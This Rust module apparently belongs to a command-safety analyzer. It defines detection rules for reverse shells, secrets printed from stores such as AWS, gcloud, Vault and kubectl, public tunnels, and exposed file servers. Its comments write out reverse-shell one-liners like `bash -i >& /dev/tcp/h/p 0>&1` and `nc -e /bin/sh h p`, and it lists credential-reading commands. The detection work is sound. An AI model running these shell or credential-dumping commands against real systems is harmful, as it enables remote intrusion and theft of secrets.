//! The `exfiltration` pack: a secret flowing to a network sink (`TG-EXFIL-SECRET-UPLOAD`, in
//! [`flows`]: the engine weighs each flow against the policy's `exfiltration.allow`), a shell
//! wired to a network connection (`TG-EXFIL-REVERSE-SHELL`), and a server publishing a home
//! or credential directory on every interface (`TG-EXFIL-PUBLIC-SERVER`), and a credential
//! printed into the conversation (`TG-EXFIL-CREDENTIAL-READ`, in [`shown`]).

mod flows;
mod published;
mod senders;
mod server;
mod shown;
mod sinks;

use std::ops::Range;

use super::{Check, Matcher as M, Operands, Seen};
use crate::knowledge::exfiltration::{
    GPG_SECRET_EXPORTS, SERVICE_TOKENS, SOCAT_EXEC_TYPES, Sender, sender,
};
use crate::knowledge::interpreters::is_interpreter;
use crate::knowledge::programs::{Class, in_class, table_name};
use crate::model::{Arg, CommandAnalysis, SimpleCommand};
use crate::options::{Grammar, read_grammar};
use crate::syntax::words::basename;

pub use flows::{SecretFlow, secret_flows};
pub(super) use published::secret_staged;
pub use shown::{CREDENTIAL_READ, credential_in_tree, credential_searched, credentials_shown};
pub(super) use shown::{secret_values_shown, shown_to_terminal};

/// The rule the engine reports for a [`SecretFlow`] the policy does not allow.
pub const SECRET_UPLOAD: &str = "TG-EXFIL-SECRET-UPLOAD";
const REVERSE_SHELL: &str = "TG-EXFIL-REVERSE-SHELL";
const PUBLIC_SERVER: &str = "TG-EXFIL-PUBLIC-SERVER";
const PUBLIC_TUNNEL: &str = "TG-EXFIL-PUBLIC-TUNNEL";
const SECRET_STORE: &str = "TG-EXFIL-SECRET-STORE-READ";
const SECRET_STAGED: &str = "TG-EXFIL-SECRET-STAGED";
const HELP: &[&str] = &["--help", "-h"];

/// Shells (the program table's `Shell` class), for the matchers' index.
const SHELLS: &[&str] = &[
    "sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "fish", "yash", "posh", "rbash", "csh",
    "tcsh", "osh", "ysh", "hush", "rc", "es", "xonsh", "nu", "elvish", "murex", "ion",
];

/// Interpreters whose inline code is read for sockets wired to a shell.
const CODE: &[&str] = &[
    "python", "pypy", "ipython", "perl", "ruby", "node", "nodejs", "php", "bun",
];

/// The pack's matchers (the secret flows are the engine's, see [`flows`]).
pub(super) const MATCHERS: &[M] = &[
    M::new(REVERSE_SHELL, SHELLS, &[]).check(Check::ShellOnSocket),
    // `exec 5<>/dev/tcp/h/p; sh <&5 >&5`: the socket opened for the shell that follows.
    M::new(REVERSE_SHELL, &["exec"], &[]).check(Check::ShellOnSocket),
    M::new(REVERSE_SHELL, &["nc", "ncat", "netcat"], &[]).check(Check::NetcatRunsShell),
    M::new(REVERSE_SHELL, &["socat"], &[]).check(Check::SocatRunsShell),
    M::new(REVERSE_SHELL, CODE, &[]).check(Check::InlineReverseShell),
    M::new(REVERSE_SHELL, &["awk", "gawk"], &[]).check(Check::AwkSocketShell),
    M::new(PUBLIC_SERVER, &["python", "pypy", "php", "ruby"], &[]).check(Check::PublicServer),
    // `git add .env`: a later push publishes it with the history (`published`).
    M::new(SECRET_STAGED, &["git"], &[&["add", "stage"]]).check(Check::SecretStaged),
    // Tunnel services that give a local port a public address: whatever listens there (a
    // dev server, a debugger, a database) is then open to anyone who finds the address.
    M::new(
        PUBLIC_TUNNEL,
        &["ngrok"],
        &[&["http", "tcp", "tls", "start"]],
    )
    .none(HELP),
    // cloudflared's quick tunnel; named tunnels (`tunnel run NAME`) were set up by a person.
    M::new(PUBLIC_TUNNEL, &["cloudflared"], &[])
        .any(&["--url"])
        .none(HELP),
    M::new(PUBLIC_TUNNEL, &["lt", "localtunnel"], &[])
        .any(&["--port", "-p"])
        .none(HELP),
    M::new(PUBLIC_TUNNEL, &["bore"], &[&["local"]]).none(HELP),
    M::new(PUBLIC_TUNNEL, &["zrok"], &[&["share"], &["public"]]).none(HELP),
    // Secret stores and credential helpers printing a secret, when it reaches the terminal
    // (`TOKEN=$(gh auth token)` and `gh auth token | docker login --password-stdin` keep it).
    M::new(SECRET_STORE, &["gh"], &[&["auth"], &["token"]]).check(Check::ShownToTerminal),
    M::new(
        SECRET_STORE,
        &["aws"],
        &[
            &["secretsmanager"],
            &["get-secret-value", "batch-get-secret-value"],
        ],
    )
    .check(Check::ShownToTerminal),
    M::new(
        SECRET_STORE,
        &["aws"],
        &[
            &["ssm"],
            &["get-parameter", "get-parameters", "get-parameters-by-path"],
        ],
    )
    .any(&["--with-decryption"])
    .check(Check::ShownToTerminal),
    M::new(SECRET_STORE, &["aws"], &[&["configure"], &["get"]])
        .operands(Operands::Some(&[
            "*aws_secret_access_key",
            "*aws_session_token",
        ]))
        .check(Check::ShownToTerminal),
    M::new(
        SECRET_STORE,
        &["aws"],
        &[&["configure"], &["export-credentials"]],
    )
    .check(Check::ShownToTerminal),
    M::new(
        SECRET_STORE,
        &["aws"],
        &[
            &["sts"],
            &["get-session-token", "assume-role", "get-federation-token"],
        ],
    )
    .check(Check::ShownToTerminal),
    M::new(SECRET_STORE, &["aws"], &[&["ecr"], &["get-login-password"]])
        .check(Check::ShownToTerminal),
    M::new(
        SECRET_STORE,
        &["gcloud"],
        &[&["auth"], &["print-access-token", "print-identity-token"]],
    )
    .check(Check::ShownToTerminal),
    M::new(
        SECRET_STORE,
        &["gcloud"],
        &[&["auth"], &["application-default"], &["print-access-token"]],
    )
    .check(Check::ShownToTerminal),
    M::new(
        SECRET_STORE,
        &["gcloud"],
        &[&["secrets"], &["versions"], &["access"]],
    )
    .check(Check::ShownToTerminal),
    M::new(
        SECRET_STORE,
        &["az"],
        &[&["keyvault"], &["secret"], &["show"]],
    )
    .check(Check::ShownToTerminal),
    M::new(
        SECRET_STORE,
        &["az"],
        &[&["account"], &["get-access-token"]],
    )
    .check(Check::ShownToTerminal),
    M::new(SECRET_STORE, &["kubectl", "oc"], &[&["get"]])
        .operands(Operands::Kinds(&["secret", "secrets"]))
        .check(Check::SecretValuesShown),
    M::new(SECRET_STORE, &["kubectl", "oc"], &[&["config"], &["view"]])
        .any(&["--raw"])
        .check(Check::ShownToTerminal),
    M::new(SECRET_STORE, &["kubectl", "oc"], &[&["create"], &["token"]])
        .check(Check::ShownToTerminal),
    M::new(SECRET_STORE, &["vault"], &[&["kv"], &["get"]]).check(Check::ShownToTerminal),
    M::new(SECRET_STORE, &["vault"], &[&["read"]]).check(Check::ShownToTerminal),
    M::new(SECRET_STORE, &["vault"], &[&["print"], &["token"]]).check(Check::ShownToTerminal),
    M::new(SECRET_STORE, &["op"], &[&["read"]]).check(Check::ShownToTerminal),
    M::new(SECRET_STORE, &["op"], &[&["item"], &["get"]])
        .any(&["--reveal"])
        .check(Check::ShownToTerminal),
    M::new(
        SECRET_STORE,
        &["security"],
        &[&["find-generic-password", "find-internet-password"]],
    )
    .any(&["-w", "-g"])
    .check(Check::ShownToTerminal),
    M::new(SECRET_STORE, &["pass"], &[&["show"]]).check(Check::ShownToTerminal),
    M::new(SECRET_STORE, &["gopass"], &[&["show", "cat"]]).check(Check::ShownToTerminal),
    M::new(SECRET_STORE, &["bw"], &[&["get"]])
        .operands(Operands::Some(&["password", "item", "totp", "notes"]))
        .check(Check::ShownToTerminal),
    // `doppler secrets` alone prints every secret's value; `secrets get NAME` one.
    M::new(SECRET_STORE, &["doppler"], &[&["secrets"]])
        .operands(Operands::Exactly(0))
        .check(Check::ShownToTerminal),
    M::new(SECRET_STORE, &["doppler"], &[&["secrets"], &["get"]]).check(Check::ShownToTerminal),
    M::new(SECRET_STORE, &["heroku"], &[&["config", "config:get"]]).check(Check::ShownToTerminal),
    M::new(SECRET_STORE, &["heroku"], &[&["auth:token"]]).check(Check::ShownToTerminal),
    // A new token printed (`vault token create`).
    M::new(SECRET_STORE, &["vault"], &[&["token"], &["create"]]).check(Check::ShownToTerminal),
    // Encrypted secrets files decrypted to the terminal (`-o FILE`, `--in-place` write a file
    // instead; `ansible-vault decrypt` rewrites the file unless its output is `-`).
    M::new(SECRET_STORE, &["sops"], &[])
        .any(&["-d", "--decrypt"])
        .none(&["--output", "-i", "--in-place"])
        .check(Check::ShownToTerminal),
    M::new(SECRET_STORE, &["age", "rage"], &[])
        .any(&["-d", "--decrypt"])
        .none(&["-o", "--output"])
        .check(Check::ShownToTerminal),
    M::new(SECRET_STORE, &["ansible-vault"], &[&["view"]]).check(Check::ShownToTerminal),
    // Secret managers' values: `infisical secrets` lists them with their values.
    M::new(SECRET_STORE, &["infisical"], &[&["secrets"]])
        .operands(Operands::Exactly(0))
        .check(Check::ShownToTerminal),
    M::new(SECRET_STORE, &["infisical"], &[&["secrets"], &["get"]]).check(Check::ShownToTerminal),
    M::new(SECRET_STORE, &["infisical"], &[&["export"]]).check(Check::ShownToTerminal),
    M::new(SECRET_STORE, &["chamber"], &[&["read", "export"]]).check(Check::ShownToTerminal),
    M::new(SECRET_STORE, &["git"], &[&["credential"], &["fill"]]).check(Check::ShownToTerminal),
    // A secret key from gpg's key store (`-o FILE` writes it to a file instead).
    M::new(SECRET_STORE, &["gpg", "gpg2"], &[])
        .any(GPG_SECRET_EXPORTS)
        .none(&["-o", "--output"])
        .check(Check::ShownToTerminal),
];

/// Whether `cmd` prints a secret from a store (a `TG-EXFIL-SECRET-STORE-READ` matcher's
/// command, wherever its output goes), and then the row of [`SERVICE_TOKENS`] when the
/// secret is one service's token (`None`: a secret for anything).
pub(super) fn prints_stored_secret(cmd: &SimpleCommand) -> Option<Option<usize>> {
    let program = cmd.program_lower();
    let stores = MATCHERS.iter().filter(|m| {
        m.rule == SECRET_STORE && m.programs.contains(&program.as_ref()) && m.may_match(cmd)
    });
    let prints = stores.into_iter().any(|m| {
        let view = super::View::read(cmd, m.spec);
        m.matches_view(&view)
            && (m.check != Some(Check::SecretValuesShown) || shown::prints_secret_values(&view))
    });
    if !prints {
        return None;
    }
    let first = super::View::read(cmd, None)
        .operands()
        .next()
        .map(str::to_ascii_lowercase);
    Some(
        SERVICE_TOKENS
            .iter()
            .position(|(p, sub, _)| *p == program.as_ref() && first.as_deref() == Some(*sub)),
    )
}

/// bash's network pseudo-files.
fn is_socket_path(path: &str) -> bool {
    path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/")
}

/// Whether the command line `line` starts a shell that takes its commands from stdin: a
/// shell or interpreter with options only (`/bin/sh`, `bash -li`, `python3 -i`,
/// `cmd.exe`), not one given a script or code.
pub(super) fn starts_a_shell(line: &str) -> bool {
    let words: Vec<Arg> = line
        .split_whitespace()
        .map(|w| Arg {
            text: w.to_string(),
            ..Arg::default()
        })
        .collect();
    let Some(first) = words.first() else {
        return false;
    };
    let name = basename(&first.text).to_ascii_lowercase();
    let shell = in_class(&name, Class::Shell)
        || is_interpreter(&name).is_some_and(|opts| !opts.is_empty())
        || matches!(name.as_str(), "cmd" | "cmd.exe" | "powershell" | "pwsh");
    // Options only, read as a shell reads them (`sh -`, `bash +x` too): no script, no code.
    shell && read_grammar(&words, 1, &OPTIONS_ONLY).end == words.len()
}

/// How [`starts_a_shell`] reads the words after the program: no option takes a value
/// (a `-c` without its command still runs a shell), `+x` options, `-` ends options.
const OPTIONS_ONLY: Grammar = Grammar::plain(crate::knowledge::specs::NONE).shell();

/// Whether `c` is a raw socket program (nc, ncat, netcat, telnet, socat).
fn is_socket(c: &SimpleCommand) -> bool {
    table_name(&c.program).and_then(sender) == Some(Sender::Socket) || c.program_lower() == "socat"
}

/// What the pipes of one analysis connect, computed once for the checks that ask (each
/// question is then answered in constant time, whatever the number of commands).
pub(crate) struct PipeFacts {
    /// Per command: a socket program reads its output.
    feeds_socket: Vec<bool>,
    /// Running count of socket programs before each index.
    sockets_before: Vec<u32>,
    /// Running count of commands before each index that print more than literal text
    /// (anything but `echo` and `printf`).
    non_literal_before: Vec<u32>,
    /// The last shell that reads its commands from stdin.
    last_stdin_shell: Option<usize>,
}

impl PipeFacts {
    pub(crate) fn new(analysis: &CommandAnalysis) -> PipeFacts {
        let n = analysis.commands.len();
        let mut diff = vec![0i64; n + 1];
        let mut sockets_before = vec![0u32; n + 1];
        let mut non_literal_before = vec![0u32; n + 1];
        let mut last_stdin_shell = None;
        for (i, c) in analysis.commands.iter().enumerate() {
            let socket = is_socket(c);
            if socket && let Some(r) = &c.stdin_from {
                let end = r.end.min(n);
                let start = r.start.min(end);
                diff[start] += 1;
                diff[end] -= 1;
            }
            sockets_before[i + 1] = sockets_before[i] + u32::from(socket);
            let literal = matches!(c.program_lower().as_ref(), "echo" | "printf");
            non_literal_before[i + 1] = non_literal_before[i] + u32::from(!literal);
            if in_class(&c.program_lower(), Class::Shell) && c.reads_code_from_stdin {
                last_stdin_shell = Some(i);
            }
        }
        let mut running = 0i64;
        let feeds_socket = diff[..n]
            .iter()
            .map(|d| {
                running += d;
                running > 0
            })
            .collect();
        PipeFacts {
            feeds_socket,
            sockets_before,
            non_literal_before,
            last_stdin_shell,
        }
    }

    fn count(counts: &[u32], r: &Range<usize>) -> u32 {
        let end = r.end.min(counts.len() - 1);
        counts[end] - counts[r.start.min(end)]
    }
}

/// A shell reading its commands from a network connection or sending its output to one:
/// `bash -i >& /dev/tcp/h/p 0>&1`, `cat fifo | sh -i | nc h p > fifo`, `nc h p | sh`, and
/// `exec 5<>/dev/tcp/h/p` followed by a shell.
pub(super) fn shell_on_socket(seen: &Seen<'_>) -> bool {
    let cmd = seen.cmd;
    let pipes = || seen.pipes.get_or_init(|| PipeFacts::new(seen.analysis));
    if cmd.program_lower() == "exec" {
        let opens = cmd.writes.iter().any(|w| is_socket_path(w));
        return opens && pipes().last_stdin_shell.is_some_and(|s| s > seen.index);
    }
    // A script file or `-c` string: its output on a socket is data, not a shell.
    let interactive = cmd.reads_code_from_stdin || cmd.flags.contains("-i");
    if !interactive {
        return false;
    }
    if cmd.writes.iter().any(|w| is_socket_path(w))
        || cmd.stdin_file.as_deref().is_some_and(is_socket_path)
    {
        return true;
    }
    if !cmd.in_pipeline && cmd.stdin_from.is_none() {
        return false;
    }
    let pipes = pipes();
    // Fed by a socket, or feeding one (a script it was given in the pipe is no shell).
    let fed = cmd
        .stdin_from
        .as_ref()
        .is_some_and(|r| PipeFacts::count(&pipes.sockets_before, r) > 0);
    let literal_input = cmd
        .stdin_from
        .as_ref()
        .is_some_and(|r| PipeFacts::count(&pipes.non_literal_before, r) == 0);
    let feeds = pipes.feeds_socket.get(seen.index).copied().unwrap_or(false);
    fed || (feeds && !literal_input)
}

/// `nc -e /bin/sh h p`, `ncat --exec bash`, `nc -c sh`, `ncat --sh-exec 'bash -i'`: netcat
/// runs a shell on the connection (listening or connecting).
pub(super) fn netcat_runs_shell(seen: &Seen<'_>) -> bool {
    seen.view
        .opts
        .iter()
        .filter(|o| matches!(&*o.name, "-e" | "--exec" | "-c" | "--sh-exec"))
        .filter_map(|o| o.value.as_deref())
        .any(starts_a_shell)
}

/// `socat tcp:h:p exec:/bin/sh`, `socat TCP-LISTEN:4444 EXEC:'bash -li',pty`: socat runs a
/// shell on a network address.
pub(super) fn socat_runs_shell(seen: &Seen<'_>) -> bool {
    let mut network = false;
    let mut shell = false;
    for o in seen.view.operands() {
        let (kind, rest) = o.split_once(':').unwrap_or((o, ""));
        if crate::facts::destinations::socat_network_type(kind) {
            network = true;
        }
        if SOCAT_EXEC_TYPES.contains(&kind.to_ascii_uppercase().as_str()) {
            let line = rest.split(',').next().unwrap_or("");
            shell |= starts_a_shell(line);
        }
    }
    network && shell
}

/// A file server on every interface serving a home or credential directory.
pub(super) fn public_server(seen: &Seen<'_>) -> bool {
    server::public_server(seen, seen.cx)
}

/// gawk's network special files (`/inet/tcp/0/HOST/PORT`) with commands run on what comes
/// in: `cmd |& getline`, `system(…)`.
pub(super) fn awk_socket_shell(cmd: &SimpleCommand) -> bool {
    cmd.args.iter().any(|a| {
        let socket = ["/inet/", "/inet4/", "/inet6/"]
            .iter()
            .any(|p| a.contains(p));
        socket && (a.contains("getline") || a.contains("system("))
    })
}

/// Inline interpreter code that wires a shell to a socket.
pub(super) fn inline_reverse_shell(cmd: &SimpleCommand) -> bool {
    cmd.inline_network.as_ref().is_some_and(|n| n.reverse_shell)
}

#[cfg(test)]
use crate::{
    analyze,
    model::{CommandContext, Destination},
    rules::packs::evaluate_packs,
};

#[cfg(test)]
mod published_tests;

#[cfg(test)]
mod shown_tests;

#[cfg(test)]
mod tests;
